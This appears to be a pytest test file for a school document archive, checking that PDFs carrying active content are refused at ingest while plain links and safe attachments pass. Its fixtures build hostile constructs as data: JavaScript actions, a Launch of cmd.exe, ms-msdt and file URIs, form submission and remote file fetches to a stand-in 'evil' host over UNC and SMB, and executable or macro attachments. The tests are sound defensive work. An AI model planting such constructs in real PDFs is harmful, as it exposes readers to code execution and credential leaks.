"""Active content in PDFs (finding 12): every construct a reader would execute or fetch is refused with
`active_content` through ingest_file, written as an indirect object and as a direct one, wherever it sits in the object
graph; plain links, in-document navigation, harmless attachments, reportlab and pyHanko-signed files still pass."""

from __future__ import annotations

import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
from sqlalchemy import func, select

from archive.context import Archive
from archive.errors import IngestRefused
from archive.ingest import ingest_file
from archive.models import Document
from tests.factories import make_pdf

N = pikepdf.Name
S = pikepdf.String
D = pikepdf.Dictionary
A = pikepdf.Array


def ingest(a: Archive, path: Path):
    return ingest_file(
        a, path, filename=path.name, school="T01", type_code="so-theo-doi-danh-gia-lop", year="2024-2025"
    )


def refused(a: Archive, path: Path) -> str:
    with pytest.raises(IngestRefused) as ei:
        ingest(a, path)
    with a.sessions() as s:
        assert s.scalar(select(func.count()).select_from(Document)) == 0
    assert ei.value.message_vi and ei.value.message_en
    return ei.value.code


def build(tmp_path: Path, change: Callable[[pikepdf.Pdf], None], name: str = "x.pdf") -> Path:
    """A reportlab PDF (a real one, with fonts and a content stream) changed by `change` and saved."""
    src = make_pdf(tmp_path / "src.pdf", pages=2)
    with pikepdf.open(src) as pdf:
        change(pdf)
        out = tmp_path / name
        pdf.save(out)
    return out


def wrap(pdf: pikepdf.Pdf, obj: pikepdf.Object, indirect: bool) -> pikepdf.Object:
    return pdf.make_indirect(obj) if indirect else obj


def js() -> pikepdf.Dictionary:
    return D(S=N.JavaScript, JS=S("app.alert('x')"))


def link(pdf: pikepdf.Pdf, action: pikepdf.Object, indirect: bool) -> None:
    annot = D(Type=N.Annot, Subtype=N.Link, Rect=A([0, 0, 100, 100]), A=wrap(pdf, action, indirect))
    pdf.pages[0].Annots = A([wrap(pdf, annot, indirect)])


# --- each construct, as an indirect and as a direct object --------------------------------------------------------

CONSTRUCTS: dict[str, Callable[[pikepdf.Pdf, bool], None]] = {
    "open_action_js": lambda pdf, ind: setattr(pdf.Root, "OpenAction", wrap(pdf, js(), ind)),
    "catalog_aa_js": lambda pdf, ind: setattr(pdf.Root, "AA", D(WC=wrap(pdf, js(), ind))),
    "page_aa_js": lambda pdf, ind: setattr(pdf.pages[1].obj, "AA", wrap(pdf, D(O=wrap(pdf, js(), ind)), ind)),
    "annotation_aa_js": lambda pdf, ind: setattr(
        pdf.pages[0].obj,
        "Annots",
        A(
            [
                wrap(
                    pdf,
                    D(Type=N.Annot, Subtype=N.Link, Rect=A([0, 0, 9, 9]), AA=D(E=wrap(pdf, js(), ind))),
                    ind,
                )
            ]
        ),
    ),
    "link_js": lambda pdf, ind: link(pdf, js(), ind),
    "js_without_s": lambda pdf, ind: link(pdf, D(JS=S("app.alert(1)")), ind),
    "launch": lambda pdf, ind: link(pdf, D(S=N.Launch, F=S("cmd.exe")), ind),
    "uri_javascript": lambda pdf, ind: link(pdf, D(S=N.URI, URI=S("javascript:alert(1)")), ind),
    "uri_javascript_obfuscated": lambda pdf, ind: link(pdf, D(S=N.URI, URI=S(" JaVa\tScRiPt:alert(1)")), ind),
    "uri_vbscript": lambda pdf, ind: link(pdf, D(S=N.URI, URI=S("vbscript:msgbox(1)")), ind),
    "uri_data": lambda pdf, ind: link(pdf, D(S=N.URI, URI=S("data:text/html,<script>x</script>")), ind),
    "uri_file": lambda pdf, ind: link(pdf, D(S=N.URI, URI=S("file:///C:/Windows/system32/calc.exe")), ind),
    "uri_ms_msdt": lambda pdf, ind: link(pdf, D(S=N.URI, URI=S("ms-msdt:/id PCWDiagnostic")), ind),
    "submit_form": lambda pdf, ind: link(pdf, D(S=N.SubmitForm, F=D(FS=N.URL, F=S("http://evil/x"))), ind),
    "import_data": lambda pdf, ind: link(pdf, D(S=N.ImportData, F=S("data.fdf")), ind),
    "gotor_unc": lambda pdf, ind: link(
        pdf, D(S=N.GoToR, F=S("\\\\evil\\share\\x.pdf"), D=A([0, N.Fit])), ind
    ),
    "gotor_smb": lambda pdf, ind: link(
        pdf, D(S=N.GoToR, F=S("smb://evil/share/x.pdf"), D=A([0, N.Fit])), ind
    ),
    "gotor_http": lambda pdf, ind: link(pdf, D(S=N.GoToR, F=S("http://evil/x.pdf"), D=A([0, N.Fit])), ind),
    "gotor_file_url": lambda pdf, ind: link(
        pdf, D(S=N.GoToR, F=S("file:///etc/x.pdf"), D=A([0, N.Fit])), ind
    ),
    "gotor_url_filespec": lambda pdf, ind: link(
        pdf, D(S=N.GoToR, F=D(FS=N.URL, F=S("http://evil/x.pdf")), D=A([0, N.Fit])), ind
    ),
    "gotor_unc_filespec": lambda pdf, ind: link(
        pdf, D(S=N.GoToR, F=D(Type=N.Filespec, UF=S("//evil/share/x.pdf")), D=A([0, N.Fit])), ind
    ),
    "gotoe_network": lambda pdf, ind: link(
        pdf, D(S=N.GoToE, F=S("\\\\evil\\x.pdf"), T=D(R=N.C, N=S("a"))), ind
    ),
    "next_chain_js": lambda pdf, ind: setattr(
        pdf.Root,
        "OpenAction",
        wrap(
            pdf, D(S=N.GoTo, D=A([pdf.pages[0].obj, N.Fit]), Next=A([D(S=N.Named, N=N.NextPage), js()])), ind
        ),
    ),
    "next_chain_launch_deep": lambda pdf, ind: link(
        pdf,
        D(
            S=N.Named,
            N=N.NextPage,
            Next=wrap(pdf, D(S=N.Named, N=N.FirstPage, Next=D(S=N.Launch, F=S("x"))), ind),
        ),
        ind,
    ),
    "xfa": lambda pdf, ind: setattr(
        pdf.Root, "AcroForm", D(Fields=A([]), XFA=wrap(pdf, pikepdf.Stream(pdf, b"<xdp/>"), True))
    ),
    "rich_media": lambda pdf, ind: setattr(
        pdf.pages[0].obj,
        "Annots",
        A([wrap(pdf, D(Type=N.Annot, Subtype=N.RichMedia, Rect=A([0, 0, 9, 9])), ind)]),
    ),
    "rich_media_execute": lambda pdf, ind: link(pdf, D(S=N.RichMediaExecute, TA=D(), TI=D()), ind),
    "rendition_js": lambda pdf, ind: link(pdf, D(S=N.Rendition, OP=0, JS=S("this.print()")), ind),
    "sound_js": lambda pdf, ind: link(pdf, D(S=N.Sound, Sound=pikepdf.Stream(pdf, b"\0"), JS=S("x")), ind),
    "movie_js": lambda pdf, ind: link(pdf, D(S=N.Movie, T=S("m"), JS=S("x")), ind),
    "document_js_name_tree": lambda pdf, ind: setattr(
        pdf.Root, "Names", D(JavaScript=wrap(pdf, D(Names=A([S("a"), wrap(pdf, js(), ind)])), ind))
    ),
    "typed_action_elsewhere": lambda pdf, ind: setattr(
        pdf.Root, "PieceInfo", D(Hoso=D(Private=wrap(pdf, D(Type=N.Action, S=N.Launch, F=S("x")), ind)))
    ),
    "3d_javascript": lambda pdf, ind: setattr(
        pdf.Root,
        "PieceInfo",
        D(X=wrap(pdf, pikepdf.Stream(pdf, b"", Type=N("/3D"), OnInstantiate=S("x")), True)),
    ),
    "deep_in_form_field": lambda pdf, ind: setattr(
        pdf.Root,
        "AcroForm",
        D(
            Fields=A(
                [wrap(pdf, D(FT=N.Tx, T=S("a"), Kids=A([D(T=S("b"), AA=D(K=wrap(pdf, js(), ind)))])), ind)]
            )
        ),
    ),
}


@pytest.mark.parametrize("indirect", [True, False], ids=["indirect", "direct"])
@pytest.mark.parametrize("construct", sorted(CONSTRUCTS))
def test_active_construct_is_refused(archive: Archive, tmp_path: Path, construct: str, indirect: bool):
    path = build(tmp_path, lambda pdf: CONSTRUCTS[construct](pdf, indirect))
    assert refused(archive, path) == "active_content"


# --- attachments ---------------------------------------------------------------------------------------------------


def attach(
    pdf: pikepdf.Pdf,
    name: str,
    data: bytes,
    *,
    uf: str | None = None,
    subtype: str | None = None,
    compress: bool = False,
) -> None:
    stream = pikepdf.Stream(pdf, zlib.compress(data) if compress else data, Type=N.EmbeddedFile)
    if compress:
        stream.Filter = N.FlateDecode
    if subtype:
        stream.Subtype = N(subtype)
    spec = D(Type=N.Filespec, F=S(name), UF=S(uf or name), EF=D(F=pdf.make_indirect(stream)))
    pdf.Root.Names = D(EmbeddedFiles=D(Names=A([S(name), pdf.make_indirect(spec)])))


MACRO_AND_EXECUTABLE_NAMES = [
    "setup.exe", "trang.html", "trang.htm", "hinh.svg", "app.hta", "script.js", "bang-diem.xlsm", "hocba.docm",
    "bai-giang.pptm", "macro.xlam", "run.bat", "run.ps1", "bao-cao.PDF.EXE",
]  # fmt: skip


@pytest.mark.parametrize("name", MACRO_AND_EXECUTABLE_NAMES)
def test_attachment_refused_by_name(archive: Archive, tmp_path: Path, name: str):
    path = build(tmp_path, lambda pdf: attach(pdf, name, b"plain bytes"))
    assert refused(archive, path) == "active_content"


def test_attachment_refused_by_unicode_name_only(archive: Archive, tmp_path: Path):
    path = build(tmp_path, lambda pdf: attach(pdf, "ghi-chu.txt", b"plain", uf="ghi-chú.exe"))
    assert refused(archive, path) == "active_content"


@pytest.mark.parametrize(
    "subtype", ["/application#2Fx-msdownload", "/text#2Fhtml", "/image#2Fsvg+xml", "/application#2Fjavascript",
                "/application#2Fvnd.ms-excel.sheet.macroEnabled.12"],
)  # fmt: skip
def test_attachment_refused_by_subtype(archive: Archive, tmp_path: Path, subtype: str):
    path = build(tmp_path, lambda pdf: attach(pdf, "du-lieu.bin", b"plain", subtype=subtype))
    assert refused(archive, path) == "active_content"


@pytest.mark.parametrize(
    "head",
    [b"MZ\x90\x00\x03", b"\x7fELF\x02\x01", b"#!/bin/sh\n", b"<!DOCTYPE html><html>", b"<html><script>",
     b"\xef\xbb\xbf  <svg xmlns='http://www.w3.org/2000/svg'>", b"<?xml version='1.0'?>\n<svg onload='x'>"],
)  # fmt: skip
@pytest.mark.parametrize("compress", [False, True], ids=["raw", "flate"])
def test_attachment_refused_by_magic_bytes(archive: Archive, tmp_path: Path, head: bytes, compress: bool):
    path = build(tmp_path, lambda pdf: attach(pdf, "ghi-chu.txt", head + b"\0" * 300, compress=compress))
    assert refused(archive, path) == "active_content"


# --- what stays allowed --------------------------------------------------------------------------------------------

ALLOWED: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "uri_https": lambda pdf: link(pdf, D(S=N.URI, URI=S("https://moet.gov.vn/van-ban")), False),
    "uri_http": lambda pdf: link(pdf, D(S=N.URI, URI=S("http://truong.edu.vn")), True),
    "uri_mailto": lambda pdf: link(pdf, D(S=N.URI, URI=S("mailto:vanthu@truong.edu.vn")), False),
    "goto_page": lambda pdf: link(pdf, D(S=N.GoTo, D=A([pdf.pages[1].obj, N.Fit])), True),
    "named_next_page": lambda pdf: link(pdf, D(S=N.Named, N=N.NextPage), False),
    "open_action_destination": lambda pdf: setattr(pdf.Root, "OpenAction", A([pdf.pages[0].obj, N.Fit])),
    "gotor_local_file": lambda pdf: link(pdf, D(S=N.GoToR, F=S("phu-luc.pdf"), D=A([0, N.Fit])), False),
    "next_chain_of_navigation": lambda pdf: link(
        pdf, D(S=N.GoTo, D=A([pdf.pages[1].obj, N.Fit]), Next=A([D(S=N.Named, N=N.LastPage)])), False
    ),
    "xml_attachment": lambda pdf: attach(pdf, "hocba.xml", b"<?xml version='1.0'?><HocBa/>", compress=True),
    "cyclic_graph": lambda pdf: _cycle(pdf),
}


def _cycle(pdf: pikepdf.Pdf) -> None:
    a = pdf.make_indirect(D(Name=S("a")))
    b = pdf.make_indirect(D(Name=S("b"), Other=a))
    a.Other = b
    a.Self = a
    pdf.Root.PieceInfo = D(Loop=a)


@pytest.mark.parametrize("case", sorted(ALLOWED))
def test_harmless_constructs_are_kept(archive: Archive, tmp_path: Path, case: str):
    path = build(tmp_path, ALLOWED[case])
    assert ingest(archive, path).created


def test_reportlab_pdf_with_outline_is_kept(archive: Archive, tmp_path: Path):
    from reportlab.pdfgen import canvas

    path = tmp_path / "muc-luc.pdf"
    c = canvas.Canvas(str(path))
    for i in range(3):
        c.drawString(72, 770, f"Chương {i + 1}")
        c.bookmarkPage(f"c{i}")
        c.addOutlineEntry(f"Chương {i + 1}", f"c{i}", level=0)
        c.linkURL("https://moet.gov.vn", (72, 700, 200, 720))
        c.showPage()
    c.save()
    assert ingest(archive, path).created
